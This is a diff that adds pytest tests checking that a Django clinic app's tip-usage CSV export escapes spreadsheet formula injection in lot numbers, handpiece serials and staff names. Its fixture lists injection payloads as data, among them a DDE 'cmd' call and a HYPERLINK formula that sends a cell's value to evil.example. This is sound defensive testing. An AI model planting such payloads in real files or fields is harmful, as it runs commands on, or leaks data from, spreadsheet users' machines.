@@ -11,6 +11,7 @@ from django.db import connection
 
 from clinic.models import AuditEvent, Role
 from tests.audit.conftest import seal
+from tests.factories import HandpieceFactory, UserFactory
 from tests.factories.treatments import TipLotFactory
 from treatments import exports
 
@@ -303,3 +304,73 @@ def test_depths_are_the_current_ones_after_amendments(api, auditor, make_record,
         Decimal("0.75"),
         "ok",
     )
+
+
+# Each cell as a person could have typed it, and as the CSV must write it (OWASP CSV injection).
+FORMULAS = {
+    "=1+2*cmd|' /C calc'!A0": "'=1+2*cmd|' /C calc'!A0",
+    "@SUM(1+1)": "'@SUM(1+1)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Open")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+    "+1-2": "'+1-2",
+    "-2+3": "'-2+3",
+    "\t=1": "'\t=1",
+    "\r=1": "'\r=1",
+    "A=1": "A=1",
+    "SP 42": "SP 42",
+}
+
+
+@pytest.fixture
+def formulas(make_record, clinic, provider):
+    """One record per value above, typed as its lot number, handpiece serial and staff name."""
+    records = {}
+    for n, typed in enumerate(FORMULAS):
+        provider.full_name = typed
+        provider.save()
+        lot = TipLotFactory(clinic=clinic, lot_number=typed, received_by=provider, gtin="")
+        handpiece = HandpieceFactory(clinic=clinic, serial_number=typed)
+        records[typed] = make_record(
+            datetime(2025, 5, 1, 12, n, tzinfo=UTC), lot=lot, handpiece=handpiece
+        )
+    return records
+
+
+def _cells(csv_text: str) -> list[tuple[str, str, str]]:
+    return [
+        (row["lot_number"], row["handpiece_serial"], row["provider_name"])
+        for row in csv.DictReader(io.StringIO(csv_text, newline=""))
+    ]
+
+
+@pytest.mark.django_db
+def test_spreadsheet_formulas_are_written_as_text(api, auditor, formulas):
+    # The provider's name is the last one saved: every row shows it.
+    last = list(FORMULAS.values())[-1]
+    cells = _cells(body(api(auditor).get(URL)))
+    assert cells == [(written, written, last) for written in FORMULAS.values()]
+
+
+@pytest.mark.django_db
+def test_staff_names_that_are_formulas_are_written_as_text(api, auditor, make_record, lot, clinic):
+    for n, typed in enumerate(FORMULAS):
+        performer = UserFactory(clinic=clinic, role=Role.PROVIDER, full_name=typed)
+        make_record(datetime(2025, 5, 1, 12, n, tzinfo=UTC), lot=lot, performer=performer)
+    names = [row["provider_name"] for row in rows(api(auditor).get(URL))]
+    assert names == list(FORMULAS.values())
+
+
+@pytest.mark.django_db
+def test_the_command_writes_formulas_as_text_too(clinic, formulas, tmp_path):
+    output = tmp_path / "usage.csv"
+    call_command(
+        "export_tip_usage",
+        "--clinic",
+        str(clinic.id),
+        "--output",
+        str(output),
+        "--no-verify",
+        verbosity=0,
+    )
+    last = list(FORMULAS.values())[-1]
+    cells = _cells(output.read_bytes().decode())
+    assert cells == [(written, written, last) for written in FORMULAS.values()]
